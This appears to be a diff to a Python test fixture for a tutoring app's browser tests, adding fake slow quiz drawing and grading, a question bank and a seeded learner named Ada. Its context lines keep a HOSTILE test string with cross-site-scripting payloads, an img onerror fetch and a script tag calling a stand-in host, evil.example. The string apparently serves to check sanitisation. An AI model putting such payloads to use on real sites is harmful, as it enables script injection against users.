@@ -8,13 +8,19 @@ from typing import Any
 from reportlab.lib.pagesizes import A4
 from reportlab.pdfgen.canvas import Canvas
 
+from tests.tutor.quiz.made_up_questions import EVERY_TYPE
+from tests.tutor.ui.fake_bank import LEFT_OUT
 from tests.tutor.ui.fake_essays import PROSE
 from tests.tutor.ui.fakes import FakeLibrary, FakeOutcome, FakeServices
 from tutor.chat.replies import Reply, ReplySentence
 from tutor.critique.essay import Essay
 from tutor.critique.findings import Critique
+from tutor.quiz.bank import Bank, QuizWish
+from tutor.quiz.questions import Grade, Question, Quiz, Response
 
 SLOW_SECONDS = 2
+STEPS, STEP_SECONDS = 100, 0.1
+SLOW_TENET = "crust-browns"
 GATE = "gate"
 GATE_SECONDS = 30
 EVIL = "http://evil.example"
@@ -24,6 +30,7 @@ HOSTILE = (
     f"Quoted ![picture]({EVIL}/quote.png) and <img src={EVIL}/tag.png onerror=fetch('{EVIL}/script')> words"
     f" [link]({EVIL}/link) :material/home: <script>fetch('{EVIL}/run')</script>.\n"
 )
+ADA = "ada"
 PDF_QUOTE = "A wall that frightens the neighbours is no wall at all."
 
 
@@ -42,7 +49,10 @@ class GatedLibrary(FakeLibrary):
 
 
 class BrowserServices(FakeServices):
-    """Answers about "hostile" quote the hostile source, those about "page" the PDF; a "slow" essay takes a while."""
+    """Answers about "hostile" quote the hostile source, those about "page" the PDF; a "slow" essay takes a while.
+
+    So does a quiz on SLOW_TENET, and the grading of what was written "slowly".
+    """
 
     def __init__(self, folder: Path) -> None:
         super().__init__(folder, library=GatedLibrary(folder / GATE))
@@ -52,6 +62,7 @@ class BrowserServices(FakeServices):
         self._sample = folder / "walls-and-signals.md"
         self._sample.write_text(PROSE, encoding="utf-8")
         self.paper = self.library.put("walls.pdf", _pdf(), text=text, title="On walls", pages=2)
+        self._answers_of_ada()
 
     def ask(self, question: str, *rest: object, **more: object) -> Reply:
         if "slow" in question:
@@ -64,8 +75,37 @@ class BrowserServices(FakeServices):
             time.sleep(SLOW_SECONDS)
         return super().critique(essay, progress)
 
+    def draw(self, wish: QuizWish, progress: Any = None) -> Quiz:
+        if wish.tenets == (SLOW_TENET,):
+            for done in range(STEPS):
+                progress("proving questions", done, STEPS)
+                time.sleep(STEP_SECONDS)
+        return super().draw(wish, progress)
+
+    def grade(self, question: Question, response: Response) -> Grade:
+        if "slowly" in response.text:
+            time.sleep(4 * SLOW_SECONDS)
+        return super().grade(question, response)
+
     def sample_essay(self) -> Path:
         return self._sample
+
+    def bank(self, progress: Any = None) -> Bank:
+        return Bank(super().bank(progress).questions, LEFT_OUT)
+
+    def _answers_of_ada(self) -> None:
+        """A learner who has answered a few questions on four days, the later ones better than the first."""
+        self.profiles.ensure(ADA, "Ada")
+        begun = self.now
+        for day in range(4):
+            for place, question in enumerate(EVERY_TYPE):
+                score = (0.0, 0.5, 1.0)[min((place + 2 * day) % 5, 2)]
+                grade = Grade(score=score, is_correct=score == 1.0, message="")
+                self.attempts.keep(ADA, question, Response(), grade, (0.4, 0.7, 0.95)[place % 3])
+            self.later(days=1)
+        for question in EVERY_TYPE[:3]:
+            self.reviews.add(ADA, question)
+        self.now = begun
 
     def _reply(self, question: str) -> Reply:
         if "hostile" in question:
